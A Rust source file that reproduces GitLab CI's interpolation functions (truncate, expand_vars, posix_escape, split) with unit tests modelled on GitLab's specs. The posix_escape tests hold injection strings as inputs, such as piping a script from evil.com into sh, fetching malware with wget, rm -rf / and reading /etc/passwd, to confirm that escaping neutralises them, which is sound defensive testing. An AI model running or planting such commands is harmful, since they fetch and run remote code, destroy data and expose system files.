//! The functions of an interpolation block (`$[[ inputs.x | truncate(0,8) ]]`):
//! `truncate`, `expand_vars`, `posix_escape` and `split`, matched and applied
//! as GitLab's `Interpolation::Functions` do, with GitLab's error messages.

use std::sync::LazyLock;

use regex::Regex;
use serde_norway::Value;

use super::InterpolationContext;

/// `truncate(offset, length)`: GitLab's pattern accepts a missing `)`.
static TRUNCATE: LazyLock<Option<Regex>> = LazyLock::new(|| {
    Regex::new(r"^truncate\([\t\n\x0B\f\r ]*([0-9]+)[\t\n\x0B\f\r ]*,[\t\n\x0B\f\r ]*([0-9]+)[\t\n\x0B\f\r ]*\)?$").ok()
});

/// `split('separator')`.
static SPLIT: LazyLock<Option<Regex>> = LazyLock::new(|| Regex::new(r"^split\('([^']*)'\)$").ok());

/// GitLab's `ExpandVariables` references: `$NAME`, `${NAME}`, `%NAME%`.
static REFERENCE: LazyLock<Option<Regex>> = LazyLock::new(|| {
    Regex::new(
        r"\$([a-zA-Z_][a-zA-Z0-9_]*)|\$\{([a-zA-Z_][a-zA-Z0-9_]*)\}|%([a-zA-Z_][a-zA-Z0-9_]*)%",
    )
    .ok()
});

/// One function of a block.
#[derive(Debug, Clone, PartialEq, Eq)]
pub(super) enum Function {
    /// The `length` characters from `offset` (counted in characters).
    Truncate { offset: usize, length: usize },
    /// The CI/CD variables a value refers to, expanded once; unknown ones kept.
    ExpandVars,
    /// The value escaped for a POSIX shell (Ruby's `Shellwords.shellescape`).
    PosixEscape,
    /// The value split at a separator, parts stripped, empty ones dropped.
    Split(String),
}

impl Function {
    /// The function an expression names, if GitLab knows one that matches.
    pub(super) fn parse(expression: &str) -> Option<Self> {
        if expression == "expand_vars" {
            return Some(Self::ExpandVars);
        }
        if expression == "posix_escape" {
            return Some(Self::PosixEscape);
        }
        if let Some(captures) = TRUNCATE.as_ref()?.captures(expression) {
            // Digits beyond `usize` saturate: GitLab's Ruby would fail there.
            let number = |index| {
                captures
                    .get(index)
                    .map_or(0, |digits| digits.as_str().parse().unwrap_or(usize::MAX))
            };
            return Some(Self::Truncate {
                offset: number(1),
                length: number(2),
            });
        }
        SPLIT
            .as_ref()?
            .captures(expression)
            .and_then(|captures| captures.get(1))
            .map(|separator| Self::Split(separator.as_str().to_owned()))
    }

    fn name(&self) -> &'static str {
        match self {
            Self::Truncate { .. } => "truncate",
            Self::ExpandVars => "expand_vars",
            Self::PosixEscape => "posix_escape",
            Self::Split(_) => "split",
        }
    }

    /// Applies the function; the error is GitLab's message.
    pub(super) fn apply(
        &self,
        value: &Value,
        context: &InterpolationContext<'_>,
    ) -> Result<Value, String> {
        let error = |message: String| format!("error in `{}` function: {message}", self.name());
        let Value::String(text) = value else {
            return Err(error(format!(
                "invalid input type: {} can only be used with string inputs",
                self.name()
            )));
        };
        match self {
            Self::Truncate { offset, length } => Ok(Value::String(
                text.chars().skip(*offset).take(*length).collect(),
            )),
            Self::ExpandVars => expand_existing(text, context)
                .map(Value::String)
                .map_err(|message| error(format!("variable expansion error: {message}"))),
            Self::PosixEscape => Ok(Value::String(shell_escape(text))),
            Self::Split(separator) => {
                if separator.is_empty() {
                    return Err(error(
                        "invalid argument: separator cannot be empty".to_owned(),
                    ));
                }
                let strip = |part: &str| part.trim_matches(RUBY_SPACE).to_owned();
                // Ruby splits at runs of whitespace when the separator is one space.
                let parts: Vec<String> = if separator == " " {
                    text.split(RUBY_SPACE).map(strip).collect()
                } else {
                    text.split(separator.as_str()).map(strip).collect()
                };
                Ok(Value::Sequence(
                    parts
                        .into_iter()
                        .filter(|part| !part.is_empty())
                        .map(Value::String)
                        .collect(),
                ))
            }
        }
    }
}

/// What Ruby's `strip` removes.
pub(super) const RUBY_SPACE: [char; 6] = [' ', '\t', '\n', '\x0B', '\x0C', '\r'];

/// GitLab's `ExpandVariables.expand_existing(..., fail_on_masked: true)`:
/// each reference to a known variable is replaced by its value (not expanded
/// again); unknown references stay as written; a masked one is an error.
fn expand_existing(text: &str, context: &InterpolationContext<'_>) -> Result<String, String> {
    let Some(reference) = REFERENCE.as_ref() else {
        return Ok(text.to_owned());
    };
    let mut out = String::with_capacity(text.len());
    let mut last = 0;
    for captures in reference.captures_iter(text) {
        let (Some(whole), Some(name)) = (
            captures.get(0),
            captures
                .get(1)
                .or_else(|| captures.get(2))
                .or_else(|| captures.get(3)),
        ) else {
            continue;
        };
        out.push_str(&text[last..whole.start()]);
        match context.variable(name.as_str()) {
            None => out.push_str(whole.as_str()),
            Some(_) if context.is_masked(name.as_str()) => {
                return Err("masked variables cannot be expanded".to_owned());
            }
            Some(value) => out.push_str(value),
        }
        last = whole.end();
    }
    out.push_str(&text[last..]);
    Ok(out)
}

/// Ruby's `Shellwords.shellescape`: `''` for the empty string, a backslash
/// before every character but `A-Za-z0-9_-.,:+/@` and newline, and a newline
/// quoted as `'\n'`.
fn shell_escape(text: &str) -> String {
    if text.is_empty() {
        return "''".to_owned();
    }
    let mut out = String::with_capacity(text.len() * 2);
    for c in text.chars() {
        match c {
            '\n' => out.push_str("'\n'"),
            c if c.is_ascii_alphanumeric() || "_-.,:+/@".contains(c) => out.push(c),
            c => {
                out.push('\\');
                out.push(c);
            }
        }
    }
    out
}

#[cfg(test)]
mod tests {
    #![allow(clippy::unwrap_used)] // Tests fail loudly by design.

    use indexmap::IndexMap;

    use super::*;

    fn text(value: &str) -> Value {
        Value::String(value.to_owned())
    }

    fn apply(expression: &str, value: Value) -> Result<Value, String> {
        let variables = IndexMap::new();
        Function::parse(expression)
            .unwrap()
            .apply(&value, &InterpolationContext::new(&variables))
    }

    /// After GitLab's `functions/truncate_spec.rb` and `block_spec.rb`.
    #[test]
    fn truncate() {
        assert!(Function::parse("truncate(1,2)").is_some());
        assert!(Function::parse("truncate( 11 , 222 )").is_some());
        assert!(Function::parse("truncate( string , 222 )").is_none());
        assert!(Function::parse("truncate(222)").is_none());
        assert!(Function::parse("unknown(1,2)").is_none());
        assert_eq!(apply("truncate(1,2)", text("test")).unwrap(), text("es"));
        assert_eq!(
            apply("truncate(1,5)", text("abcdef")).unwrap(),
            text("bcdef")
        );
        assert_eq!(apply("truncate(9,5)", text("abc")).unwrap(), text(""));
        assert_eq!(apply("truncate(1,2)", text("äöüß")).unwrap(), text("öü"));
        assert_eq!(
            apply("truncate(1,2)", Value::Number(100.into())).unwrap_err(),
            "error in `truncate` function: invalid input type: truncate can only be used with string inputs"
        );
    }

    /// After GitLab's `functions/expand_vars_spec.rb`.
    #[test]
    fn expand_vars() {
        let variables: IndexMap<String, String> = [
            ("VAR1", "value1"),
            ("VAR2", "value2"),
            ("NESTED_VAR", "$MY_VAR"),
            ("MASKED_VAR", "masked"),
        ]
        .into_iter()
        .map(|(name, value)| (name.to_owned(), value.to_owned()))
        .collect();
        let masked = ["MASKED_VAR".to_owned()];
        let context = InterpolationContext::new(&variables).with_masked(&masked);
        let run = |value: Value| Function::ExpandVars.apply(&value, &context);
        assert!(Function::parse("expand_vars").is_some());
        assert!(Function::parse("expand_vars()").is_none());
        assert!(Function::parse("expand_vars(1)").is_none());
        assert_eq!(run(text("$VAR1")).unwrap(), text("value1"));
        assert_eq!(run(text("$NESTED_VAR")).unwrap(), text("$MY_VAR"));
        assert_eq!(run(text("$UNKNOWN_VAR")).unwrap(), text("$UNKNOWN_VAR"));
        assert_eq!(
            run(text("${VAR1} $VAR2 %VAR1%")).unwrap(),
            text("value1 value2 value1")
        );
        assert_eq!(
            run(text("$MASKED_VAR")).unwrap_err(),
            "error in `expand_vars` function: variable expansion error: masked variables cannot be expanded"
        );
        assert_eq!(
            run(Value::Number(100.into())).unwrap_err(),
            "error in `expand_vars` function: invalid input type: expand_vars can only be used with string inputs"
        );
    }

    /// After GitLab's `functions/posix_escape_spec.rb`.
    #[test]
    fn posix_escape() {
        assert!(Function::parse("posix_escape").is_some());
        assert!(Function::parse("posix_escape()").is_none());
        assert!(Function::parse("posix_escape(1)").is_none());
        let cases = [
            (
                "String with \" and ' and  blanks",
                r#"String\ with\ \"\ and\ \'\ and\ \ blanks"#,
            ),
            ("Blank space", r"Blank\ space"),
            ("Single-'-quote", r"Single-\'-quote"),
            ("Double-\"-quote", r#"Double-\"-quote"#),
            ("file.txt; rm -rf /", r"file.txt\;\ rm\ -rf\ /"),
            (
                "`curl evil.com/steal.sh | sh`",
                r"\`curl\ evil.com/steal.sh\ \|\ sh\`",
            ),
            ("file_$(whoami).txt", r"file_\$\(whoami\).txt"),
            (
                "input.txt | cat /etc/passwd",
                r"input.txt\ \|\ cat\ /etc/passwd",
            ),
            (
                "file.txt\nwget http://evil.com/malware.sh",
                "file.txt'\n'wget\\ http://evil.com/malware.sh",
            ),
            ("$CI_JOB_TOKEN", r"\$CI_JOB_TOKEN"),
            ("*.rb", r"\*.rb"),
            ("", "''"),
        ];
        for (input, expected) in cases {
            assert_eq!(
                apply("posix_escape", text(input)).unwrap(),
                text(expected),
                "{input}"
            );
        }
        assert_eq!(
            apply("posix_escape", Value::Number(100.into())).unwrap_err(),
            "error in `posix_escape` function: invalid input type: posix_escape can only be used with string inputs"
        );
    }

    /// After GitLab's `functions/split_spec.rb`.
    #[test]
    fn split() {
        let strings =
            |items: &[&str]| Value::Sequence(items.iter().map(|item| text(item)).collect());
        for expression in [
            "split(',')",
            "split(';')",
            "split(':')",
            "split(' ')",
            "split('')",
        ] {
            assert!(Function::parse(expression).is_some(), "{expression}");
        }
        for expression in ["split", "split(\",\")", "unknown"] {
            assert!(Function::parse(expression).is_none(), "{expression}");
        }
        assert_eq!(
            apply("split(',')", text("a,b,c,d,e")).unwrap(),
            strings(&["a", "b", "c", "d", "e"])
        );
        assert_eq!(
            apply("split(',')", text("a, b, c")).unwrap(),
            strings(&["a", "b", "c"])
        );
        assert_eq!(
            apply("split(',')", text("a,,b")).unwrap(),
            strings(&["a", "b"])
        );
        assert_eq!(
            apply("split(';')", text("a;b;c")).unwrap(),
            strings(&["a", "b", "c"])
        );
        assert_eq!(
            apply("split(',')", text("only-one")).unwrap(),
            strings(&["only-one"])
        );
        assert_eq!(apply("split(',')", text("")).unwrap(), strings(&[]));
        for value in [Value::Number(100.into()), Value::Null] {
            assert_eq!(
                apply("split(',')", value).unwrap_err(),
                "error in `split` function: invalid input type: split can only be used with string inputs"
            );
        }
        // Ruby splits at runs of whitespace when the separator is one space.
        assert_eq!(
            apply("split(' ')", text(" a \t b\nc")).unwrap(),
            strings(&["a", "b", "c"])
        );
        assert!(Function::parse("split(,)").is_none());
        assert_eq!(
            apply("split('')", text("abc")).unwrap_err(),
            "error in `split` function: invalid argument: separator cannot be empty"
        );
    }
}
